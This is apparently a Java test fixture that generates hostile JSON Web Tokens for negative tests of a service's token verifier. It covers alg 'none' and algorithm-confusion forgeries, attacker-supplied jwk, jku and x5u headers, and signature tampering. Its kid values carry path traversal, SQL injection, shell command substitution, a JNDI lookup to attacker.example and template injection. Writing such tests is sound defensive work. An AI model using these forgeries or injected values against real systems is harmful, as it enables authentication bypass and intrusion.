package io.millrace.adapters.http.token;

import static io.millrace.adapters.http.token.TokenFixture.base64;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.JWK;
import io.millrace.domain.security.key.SignatureAlgorithm;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;

/**
 * Tokens that attackers send, by what is wrong with each. Where the header or the claims are what is wrong, the
 * signature is good, so that nothing else can be the reason for a refusal.
 */
final class HostileTokens {

    private static final Map<SignatureAlgorithm, Map<String, String>> MADE = new ConcurrentHashMap<>();

    private final SignatureAlgorithm algorithm;
    private final JWK pair;
    private final JWK attacker;
    private final String goodHeader;
    private final String goodPayload;
    private final Map<String, String> tokens = new LinkedHashMap<>();

    private HostileTokens(SignatureAlgorithm algorithm) {
        this.algorithm = algorithm;
        this.pair = Keys.pair(algorithm, 0);
        this.attacker = Keys.pair(algorithm, 2);
        this.goodHeader =
                "{\"alg\":\"" + algorithm.key() + "\",\"typ\":\"at+jwt\",\"kid\":\"" + pair.getKeyID() + "\"}";
        this.goodPayload = "{\"iss\":\"https://millrace.example\",\"sub\":\"alice\",\"iat\":1795255200,"
                + "\"nbf\":1795255200,\"exp\":1795258800,\"jti\":\"session-1.stamp-1.unique-1\","
                + "\"roles\":[\"admin\",\"reader\"],\"name\":\"alice\",\"admin\":true}";
    }

    /** Returns a token that was made in the same way and is good. */
    static String good(SignatureAlgorithm algorithm) {
        HostileTokens made = new HostileTokens(algorithm);
        return made.signed(made.goodHeader, made.goodPayload);
    }

    /** Returns the tokens for a service whose active key is the first of {@link Keys}, and whose next is the second. */
    static Map<String, String> of(SignatureAlgorithm algorithm) {
        return MADE.computeIfAbsent(algorithm, HostileTokens::make);
    }

    private static Map<String, String> make(SignatureAlgorithm algorithm) {
        HostileTokens made = new HostileTokens(algorithm);
        made.algorithms();
        made.publicKeyAsSecret();
        made.headersThatBringKeys();
        made.keyIds();
        made.types();
        made.headersThatAreNone();
        made.claims();
        made.payloadsThatAreNone();
        made.shapes();
        made.signatures();
        return Collections.unmodifiableMap(made.tokens);
    }

    private String signed(String header, String payload) {
        return TokenFixture.signed(base64(header), base64(payload), pair, algorithm);
    }

    private String signedByAttacker(String header) {
        return TokenFixture.signed(base64(header), base64(goodPayload), attacker, algorithm);
    }

    private void add(String what, String token) {
        if (tokens.put(what, token) != null) {
            throw new AssertionError("twice: " + what);
        }
    }

    private void header(String what, String header) {
        add(what, signed(header, goodPayload));
    }

    private void payload(String what, String payload) {
        add(what, signed(goodHeader, payload));
    }

    private String withAlgorithm(String json) {
        return goodHeader.replace("\"" + algorithm.key() + "\"", json);
    }

    private String withMember(String member) {
        return goodHeader.replace("}", "," + member + "}");
    }

    private void algorithms() {
        String payload = base64(goodPayload);
        for (String none : List.of("none", "None", "NONE", "nOnE", "none ")) {
            String header = base64(withAlgorithm("\"" + none + "\""));
            add("alg " + none + " without signature", header + "." + payload + ".");
            add("alg " + none + " in two parts", header + "." + payload);
            add("alg " + none + " with a good signature", signed(withAlgorithm("\"" + none + "\""), goodPayload));
        }
        for (String other : List.of(
                "RS256",
                "RS384",
                "RS512",
                "PS256",
                "ES256",
                "ES384",
                "ES256K",
                "EdDSA",
                "Ed25519",
                "Ed448",
                "HS256",
                "HS512",
                "RSA-OAEP",
                "dir",
                "",
                "es256",
                "rs256",
                "EDDSA",
                "RS256\\u0000",
                " RS256",
                "ES256 ")) {
            if (!other.equals(algorithm.key())) {
                header("alg " + other, withAlgorithm("\"" + other + "\""));
            }
        }
        for (String json : List.of("null", "256", "true", "[\"" + algorithm.key() + "\"]", "{}")) {
            header("alg as " + json, withAlgorithm(json));
        }
        header("no alg", goodHeader.replace("\"alg\":\"" + algorithm.key() + "\",", ""));
        header("alg twice", withMember("\"alg\":\"" + algorithm.key() + "\""));
        header("alg twice, once escaped", withMember("\"\\u0061lg\":\"none\""));
        header("alg twice, none first", "{\"alg\":\"none\"," + goodHeader.substring(1));
    }

    private void publicKeyAsSecret() {
        JWK key = pair.toPublicJWK();
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("JSON", key.toJSONString().getBytes(StandardCharsets.UTF_8));
        secrets.put("kept JSON", Keys.made(algorithm, 0).publicKey().value().getBytes(StandardCharsets.UTF_8));
        if (algorithm != SignatureAlgorithm.EDDSA) {
            byte[] encoded = encoded(key);
            String base64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(encoded);
            String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----";
            secrets.put("DER", encoded);
            secrets.put("PEM", pem.getBytes(StandardCharsets.US_ASCII));
            secrets.put("PEM and a line end", (pem + "\n").getBytes(StandardCharsets.US_ASCII));
        } else {
            secrets.put("octets", key.toOctetKeyPair().getDecodedX());
        }
        secrets.put("zeros", new byte[64]);
        secrets.forEach((form, secret) -> {
            for (JWSAlgorithm mac : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS384, JWSAlgorithm.HS512)) {
                if (8 * secret.length >= Integer.parseInt(mac.getName().substring(2))) {
                    String header = withAlgorithm("\"" + mac.getName() + "\"");
                    add(mac.getName() + " with the public key as " + form, authenticated(header, mac, secret));
                }
            }
        });
        add(
                "a MAC with the public key under the right alg",
                authenticated(goodHeader, JWSAlgorithm.HS256, secrets.get("JSON")));
    }

    private static byte[] encoded(JWK key) {
        try {
            return (key.getKeyType().getValue().equals("RSA")
                            ? key.toRSAKey().toPublicKey()
                            : key.toECKey().toPublicKey())
                    .getEncoded();
        } catch (JOSEException e) {
            throw new AssertionError(e);
        }
    }

    private String authenticated(String header, JWSAlgorithm mac, byte[] secret) {
        String input = base64(header) + "." + base64(goodPayload);
        try {
            return input + "."
                    + new MACSigner(secret).sign(new JWSHeader(mac), input.getBytes(StandardCharsets.US_ASCII));
        } catch (JOSEException e) {
            throw new AssertionError(e);
        }
    }

    private void headersThatBringKeys() {
        String jwk = attacker.toPublicJWK().toJSONString();
        String small = "{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"x\":\"AA\"}";
        add("jwk of the attacker", signedByAttacker(withMember("\"jwk\":" + jwk)));
        add(
                "jwk of the attacker and no kid",
                signedByAttacker("{\"alg\":\"" + algorithm.key() + "\",\"typ\":\"at+jwt\",\"jwk\":" + jwk + "}"));
        for (String member : List.of(
                "\"jwk\":" + small,
                "\"jwk\":\"x\"",
                "\"jku\":\"https://attacker.example/keys\"",
                "\"jku\":\"http://127.0.0.1:9200/keys\"",
                "\"jku\":\"file:///etc/passwd\"",
                "\"x5u\":\"https://attacker.example/cert.pem\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5c\":\"MIIB\"",
                "\"x5t\":\"AA\"",
                "\"x5t#S256\":\"AA\"",
                "\"crit\":[]",
                "\"crit\":[\"exp\"],\"exp\":1",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"crit\":[\"b64\"],\"b64\":true",
                "\"crit\":\"exp\"",
                "\"crit\":null",
                "\"b64\":false",
                "\"zip\":\"DEF\"",
                "\"zip\":null",
                "\"enc\":\"A256GCM\"",
                "\"cty\":\"JWT\"",
                "\"epk\":" + small,
                "\"p2c\":2147483647",
                "\"p2s\":\"AA\"",
                "\"iv\":\"AA\"",
                "\"nonce\":\"x\"",
                "\"url\":\"x\"",
                "\"iss\":\"https://millrace.example\"",
                "\"\":\"\"",
                "\"__proto__\":\"x\"",
                "\"Kid\":\"x\"")) {
            header("header with " + member, withMember(member));
            if (!member.contains("[")) {
                add("header with " + member + " of the attacker", signedByAttacker(withMember(member)));
            }
        }
    }

    private void keyIds() {
        for (String id : List.of(
                "../../../../etc/passwd",
                "..\\\\..\\\\windows\\\\win.ini",
                "/dev/null",
                "file:///dev/null",
                "..",
                ".",
                "%2e%2e%2f",
                "' OR '1'='1",
                "x' UNION SELECT 'secret'--",
                "'; DROP TABLE signing_key;--",
                "1) OR (1=1",
                "$(id)",
                "`id`",
                "|id",
                "${jndi:ldap://attacker.example/a}",
                "{{7*7}}",
                "*",
                "",
                " ",
                "\\u0000",
                "unknown",
                "https://attacker.example/keys",
                "k".repeat(64),
                "k".repeat(65),
                "\\u212a",
                "\\uff0e\\uff0e",
                pair.getKeyID() + " ",
                " " + pair.getKeyID(),
                pair.getKeyID() + "\\n",
                pair.getKeyID() + "\\u0000",
                pair.getKeyID() + "\\u200b",
                pair.getKeyID() + "=")) {
            header("kid [" + id + "]", goodHeader.replace("\"" + pair.getKeyID() + "\"", "\"" + id + "\""));
        }
        for (String json : List.of("null", "0", "[\"" + pair.getKeyID() + "\"]", "{\"$ne\":\"\"}", "true")) {
            header("kid as " + json, goodHeader.replace("\"" + pair.getKeyID() + "\"", json));
        }
        header("no kid", goodHeader.replace(",\"kid\":\"" + pair.getKeyID() + "\"", ""));
        header("kid twice", withMember("\"kid\":\"" + attacker.getKeyID() + "\""));
        header(
                "kid of the next key",
                goodHeader.replace(pair.getKeyID(), Keys.made(algorithm, 1).id()));
        header("kid of a key that is not of this service", goodHeader.replace(pair.getKeyID(), attacker.getKeyID()));
        add("kid and key of the attacker", signedByAttacker(goodHeader.replace(pair.getKeyID(), attacker.getKeyID())));
    }

    private void types() {
        for (String type : List.of(
                "JWT",
                "jwt",
                "AT+JWT",
                "at+JWT",
                "application/at+jwt",
                "at+jwt ",
                "at jwt",
                "at\\u002bjwt\\u0000",
                "rt+jwt",
                "logout+jwt",
                "dpop+jwt",
                "JOSE",
                "JOSE+JSON",
                "")) {
            header("typ [" + type + "]", goodHeader.replace("\"at+jwt\"", "\"" + type + "\""));
        }
        for (String json : List.of("null", "1", "[\"at+jwt\"]")) {
            header("typ as " + json, goodHeader.replace("\"at+jwt\"", json));
        }
        header("no typ", goodHeader.replace("\"typ\":\"at+jwt\",", ""));
        header("typ twice", withMember("\"typ\":\"JWT\""));
    }

    private void headersThatAreNone() {
        for (String header : List.of(
                "{}",
                "[]",
                "null",
                "1",
                "\"at+jwt\"",
                " ",
                "{",
                "\u0000",
                "[" + goodHeader + "]",
                goodHeader + goodHeader,
                goodHeader + "x",
                goodHeader + "\u0000",
                "\uFEFF" + goodHeader,
                "/**/" + goodHeader,
                goodHeader.replace('"', '\''),
                goodHeader.replace("}", ",}"),
                goodHeader.replace("\"alg\"", "alg"),
                goodHeader.replace("\"at+jwt\"", "\"at+jwt\\ud800\""),
                goodHeader.replace("\"alg\"", "\"alg\\u0000\""),
                " ".repeat(300) + goodHeader,
                "[".repeat(150))) {
            header("header " + header, header);
        }
        byte[] sixteen = goodHeader.getBytes(StandardCharsets.UTF_16);
        byte[] broken = goodHeader.getBytes(StandardCharsets.UTF_8);
        broken[9] = (byte) 0xff;
        add("header in UTF-16", TokenFixture.signed(base64(sixteen), base64(goodPayload), pair, algorithm));
        add("header that is no UTF-8", TokenFixture.signed(base64(broken), base64(goodPayload), pair, algorithm));
    }

    private void claims() {
        claim(
                "iss",
                "\"https://millrace.example\"",
                "\"https://millrace.example/\"",
                "\"https://attacker.example\"",
                "\"HTTPS://MILLRACE.EXAMPLE\"",
                "\"\"",
                "[\"https://millrace.example\"]",
                "{}",
                "1",
                "\"https://millrace.example\\u0000\"");
        claim(
                "sub",
                "\"alice\"",
                "\"\"",
                "1",
                "[\"alice\"]",
                "{}",
                "true",
                "\"al:ice\"",
                "\"alice\\n\"",
                "\"\\u0430lice\"",
                "\"alice \"",
                "\"" + "a".repeat(508) + "\"",
                "\"alice\\u0000\"");
        claim(
                "exp",
                "1795258800",
                "\"1795258800\"",
                "-1",
                "0",
                "-1795258800",
                "1795258800.5",
                "1795258800.0",
                "1e10",
                "1e400",
                "1795255200",
                "1795255199",
                "99999999999999999999",
                "9".repeat(60),
                "253402300800",
                "9223372036854775807",
                "true",
                "[1795258800]",
                "{}",
                "01795258800",
                "0x6B01",
                "NaN",
                "Infinity",
                "+1795258800",
                "\"2026-11-21T11:00:00Z\"");
        claim("nbf", "1795255200", "1795255261", "\"1795255200\"", "-1", "1e9", "99999999999", "false", "1.5");
        claim("iat", "1795255200", "1795255261", "\"1795255200\"", "-1", "1e9", "99999999999", "[]", "1.5");
        claim(
                "jti",
                "\"session-1.stamp-1.unique-1\"",
                "\"\"",
                "1",
                "\"unique-1\"",
                "\"a.b\"",
                "\"a.b.c.d\"",
                "\"..\"",
                "\"a..\"",
                "\".b.c\"",
                "\"../../a.b.c\"",
                "\"a.b.c'--\"",
                "\"a.b.c \"",
                "[\"session-1.stamp-1.unique-1\"]",
                "\"" + "a".repeat(65) + ".b.c\"",
                "\"" + "a".repeat(300) + "\"",
                "\"a.b.\\u0441\"");
        claim(
                "roles",
                "[\"admin\",\"reader\"]",
                "\"admin\"",
                "{\"admin\":true}",
                "[1]",
                "[null]",
                "[[\"admin\"]]",
                "[\"admin\",\"\"]",
                "[\"\\u0430dmin\"]",
                "[\"admin\\n\"]",
                "true");
        claim("name", "\"alice\"", "1", "[]", "{}", "\"\\udc00\"", "true");
        claim("admin", "true", "\"true\"", "1", "[]", "{}", "True");
        payload("aud of somebody else", goodPayload.replace("}", ",\"aud\":\"https://other.example\"}"));
        payload("aud as a list", goodPayload.replace("}", ",\"aud\":[\"a\",\"b\"]}"));
        payload("aud null", goodPayload.replace("}", ",\"aud\":null}"));
    }

    /** Adds a token for each of {@code wrong}, for no value, {@code null}, the claim twice, and twice in disguise. */
    private void claim(String name, String value, String... wrong) {
        String member = "\"" + name + "\":" + value;
        for (String json : wrong) {
            payload(name + " as " + json, replaced(member, "\"" + name + "\":" + json));
        }
        payload(name + " as null", replaced(member, "\"" + name + "\":null"));
        payload("no " + name, replaced(member, "\"other\":1"));
        payload(name + " twice", replaced(member, member + "," + member));
        payload(
                name + " twice, once escaped",
                replaced(
                        member,
                        member + ",\"\\u00" + Integer.toHexString(name.charAt(0)) + name.substring(1) + "\":1"));
        payload(name + " in other letters", replaced(member, "\"" + name.toUpperCase(Locale.ROOT) + "\":" + value));
    }

    private String replaced(String member, String by) {
        int start = goodPayload.indexOf(member);
        if (start < 0) {
            throw new AssertionError(member);
        }
        return goodPayload.substring(0, start) + by + goodPayload.substring(start + member.length());
    }

    private void payloadsThatAreNone() {
        for (String payload : List.of(
                "{}",
                "[]",
                "null",
                "1",
                " ",
                "alice",
                "\"alice\"",
                "6f1c1c0e-3f57-4b0c-9a0e-0c9d5f3a1b2c",
                "[" + goodPayload + "]",
                goodPayload + goodPayload,
                goodPayload + "x",
                "\uFEFF" + goodPayload,
                goodPayload.replace('"', '\''),
                goodPayload.replace("}", "/**/}"),
                goodPayload.replace("}", ",}"),
                goodPayload.replace("}", ""),
                goodPayload.replace("}", ",\"x\":" + "[".repeat(64) + "]".repeat(64) + "}"),
                goodPayload.replace("}", ",\"x\":" + "[".repeat(2_000) + "]".repeat(2_000) + "}"),
                goodPayload.replace("}", ",\"x\":" + "{\"a\":".repeat(900) + "1" + "}".repeat(900) + "}"),
                goodPayload.replace("}", ",\"x\":" + "9".repeat(2_000) + "}"),
                goodPayload.replace("}", ",\"" + "n".repeat(300) + "\":1}"),
                goodPayload.replace("}", ",\"x\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}"),
                goodPayload.replace("}", ",\"x\":\"" + "x".repeat(1_000_000) + "\"}"),
                "[".repeat(5_000),
                "{\"a\":".repeat(1_000))) {
            payload(
                    "payload " + payload.substring(0, Math.min(40, payload.length())) + " " + payload.length() + " "
                            + payload.hashCode(),
                    payload);
        }
        add(
                "payload in UTF-16",
                TokenFixture.signed(
                        base64(goodHeader), base64(goodPayload.getBytes(StandardCharsets.UTF_16)), pair, algorithm));
        byte[] broken = goodPayload.getBytes(StandardCharsets.UTF_8);
        broken[10] = (byte) 0xc0;
        add("payload that is no UTF-8", TokenFixture.signed(base64(goodHeader), base64(broken), pair, algorithm));
    }

    private void shapes() {
        String good = signed(goodHeader, goodPayload);
        String[] parts = good.split("\\.", -1);
        int length = good.length();
        for (String text : List.of(
                "", ".", "..", "...", "....", "a", "a.b", "a.b.c", "A.A.A", "null", "\u0000", "..A", "A..", ".A.")) {
            add("the text [" + text + "]", text);
        }
        add("no signature", parts[0] + "." + parts[1] + ".");
        add("two parts", parts[0] + "." + parts[1]);
        add("one part", parts[0]);
        add("no header", "." + parts[1] + "." + parts[2]);
        add("no payload", parts[0] + ".." + parts[2]);
        add("no payload, signed", TokenFixture.signed(parts[0], "", pair, algorithm));
        add("four parts", good + ".AAAA");
        add("five parts", good + ".AAAA.AAAA");
        add("five parts that are a JWE", base64("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}") + "..AAAA.AAAA.AAAA");
        add(
                "five parts with much to derive",
                base64("{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\"," + "\"p2s\":\"AAAA\",\"p2c\":2147483647}")
                        + ".AAAA.AAAA.AAAA.AAAA");
        add("a dot after it", good + ".");
        add("a dot before it", "." + good);
        add("twice", good + good);
        add("twice with a comma", good + "," + good);
        add("parts in another order", parts[1] + "." + parts[0] + "." + parts[2]);
        add("parts the other way round", parts[2] + "." + parts[1] + "." + parts[0]);
        add("a space before it", " " + good);
        add("a space after it", good + " ");
        add("a line end after it", good + "\n");
        add("a zero after it", good + "\u0000");
        add("a space in it", parts[0] + ". " + parts[1] + "." + parts[2]);
        add("a line end in it", parts[0] + "." + parts[1] + ".\r\n" + parts[2]);
        add("a byte order mark before it", "\uFEFF" + good);
        add("an invisible space in it", good.substring(0, 40) + "\u200b" + good.substring(40));
        add("a scheme before it", "Bearer " + good);
        add("quotes around it", "\"" + good + "\"");
        add("full-width dots", good.replace('.', '\uFF0E'));
        add("ideographic dots", good.replace('.', '\u3002'));
        add("a full-width letter", "\uFF45" + good.substring(1));
        add("a Cyrillic letter", good.substring(0, length - 1) + "\u0410");
        add("a lone surrogate", good + "\uD800");
        add("encoded dots", good.replace(".", "%2E"));
        add("padding", parts[0] + "=." + parts[1] + "." + parts[2]);
        add("padding after it", good + "==");
        add("the other alphabet", parts[0] + "." + parts[1] + "." + parts[2] + "+/");
        add("a letter more in the header", parts[0] + "A." + parts[1] + "." + parts[2]);
        add("a letter more in the payload", parts[0] + "." + parts[1] + "A." + parts[2]);
        add("a letter more in the signature", good + "A");
        add("zeros after the signature", good + "AAAA");
        add("bits that decode to nothing", otherSpelling(good));
        add(
                "JSON serialization",
                "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2]
                        + "\"}");
        add("in upper case", good.toUpperCase(Locale.ROOT));
        add("8,193 characters", good + "A".repeat(8_193 - length));
        add("a megabyte", "A".repeat(1_000_000));
        add("a megabyte of dots", ".".repeat(1_000_000));
        add("a megabyte of signature", good + "A".repeat(1_000_000));
        add("a megabyte of header", "A".repeat(1_000_000) + "." + parts[1] + "." + parts[2]);
        for (int cut = 1; cut < length; cut += Math.max(1, length / 12)) {
            add("cut after " + cut, good.substring(0, cut));
        }
        add("cut by one", good.substring(0, length - 1));
    }

    /** Returns the token with a signature of the same bytes, written in another way. */
    private static String otherSpelling(String good) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int last = alphabet.indexOf(good.charAt(good.length() - 1));
        String spare = good.substring(0, good.length() - 1) + alphabet.charAt(last ^ 1);
        byte[] bytes = Base64.getUrlDecoder().decode(good.substring(good.lastIndexOf('.') + 1));
        byte[] same = Base64.getUrlDecoder().decode(spare.substring(spare.lastIndexOf('.') + 1));
        // RSA signatures of 384 bytes fill their letters; for these this is another signature.
        if (bytes.length % 3 != 0 && !Arrays.equals(bytes, same)) {
            throw new AssertionError("not the same bytes");
        }
        return spare;
    }

    private void signatures() {
        String good = signed(goodHeader, goodPayload);
        String input = good.substring(0, good.lastIndexOf('.'));
        byte[] signature = Base64.getUrlDecoder().decode(good.substring(input.length() + 1));
        for (int length : List.of(1, 32, 63, 64, 65, 70, 72, 96, 256, 383, 384, 385, 512)) {
            byte[] ones = new byte[length];
            Arrays.fill(ones, (byte) 0xff);
            add(length + " zeros as signature", input + "." + base64(new byte[length]));
            add(length + " ones as signature", input + "." + base64(ones));
        }
        byte[] one = new byte[64];
        one[31] = 1;
        one[63] = 1;
        add("r and s of one as signature", input + "." + base64(one));
        byte[] half = signature.clone();
        Arrays.fill(half, 0, half.length / 2, (byte) 0);
        add("zeros in the first half of the signature", input + "." + base64(half));
        half = signature.clone();
        Arrays.fill(half, half.length / 2, half.length, (byte) 0);
        add("zeros in the second half of the signature", input + "." + base64(half));
        for (int bit = 0; bit < 8 * signature.length; bit += signature.length) {
            byte[] flipped = signature.clone();
            flipped[bit / 8] ^= (byte) (1 << bit % 8);
            add("bit " + bit + " of the signature flipped", input + "." + base64(flipped));
        }
        add("half of the signature", input + "." + base64(Arrays.copyOf(signature, signature.length / 2)));
        add("a signature with a zero more", input + "." + base64(Arrays.copyOf(signature, signature.length + 1)));
        add("a signature that is text", input + "." + base64("signature"));
        add("a signature of the attacker", signedByAttacker(goodHeader));
        String other = signed(goodHeader, goodPayload.replace("alice", "bob"));
        add("a signature of another token", input + other.substring(other.lastIndexOf('.')));
        add(
                "claims of somebody else",
                good.replace(base64(goodPayload), base64(goodPayload.replace("alice", "carol"))));
        add(
                "roles of somebody else",
                good.replace(base64(goodPayload), base64(goodPayload.replace("reader", "writer"))));
        for (SignatureAlgorithm each : SignatureAlgorithm.values()) {
            if (each != algorithm) {
                add(
                        "a signature with " + each.key() + " under the key for " + algorithm.key(),
                        TokenFixture.signed(base64(goodHeader), base64(goodPayload), Keys.pair(each, 0), each));
            }
        }
    }
}
